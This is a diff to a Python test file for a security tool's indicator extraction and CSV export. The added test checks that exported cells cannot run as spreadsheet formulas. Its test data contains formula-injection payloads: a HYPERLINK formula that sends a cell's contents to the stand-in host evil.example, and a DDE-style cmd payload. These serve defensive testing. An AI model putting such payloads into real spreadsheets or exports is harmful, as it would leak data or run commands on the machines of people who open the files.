@@ -3,8 +3,13 @@ them (links wrapped as `<url|label>`), with the look-alikes that are not indicat
 
 from __future__ import annotations
 
+import csv
+import io
+from datetime import UTC, datetime
+
 import pytest
 
+from bridgekeeper.domain import indicator_export as export
 from bridgekeeper.domain.indicators import Found, defang, extract, from_entities
 
 MD5 = "44d88612fea8a8f36de82e1278abb02f"
@@ -110,3 +115,15 @@ def test_values_are_shown_defanged() -> None:
 def test_overlong_values_are_no_indicators() -> None:
     assert extract("http://evil.com/" + "数" * 400) == []
     assert from_entities({"hosts": ["h" * 1001]}) == []
+
+
+def test_the_csv_export_never_holds_a_formula() -> None:
+    """An alert's account or host may be anything: exported, a cell starting with = + - @ would
+    run as a formula when an analyst opens the file in a spreadsheet."""
+    found = from_entities({"accounts": ['=HYPERLINK("http://evil.example/?x="&A1,"x")'],
+                               "hosts": ["@sum(1+1)*cmd|' /c calc'!a0"]})  # fmt: skip
+    at = datetime(2026, 1, 5, tzinfo=UTC)
+    items = [export.Shared(f.type, f.value, at, at, "=alert 1 entities") for f in found]
+    rows = list(csv.reader(io.StringIO(export.csv_text(items))))[1:]
+    assert len(rows) == 2
+    assert [row[1][:2] for row in rows] == ["'=", "'@"] and rows[0][3] == "'=alert 1 entities"
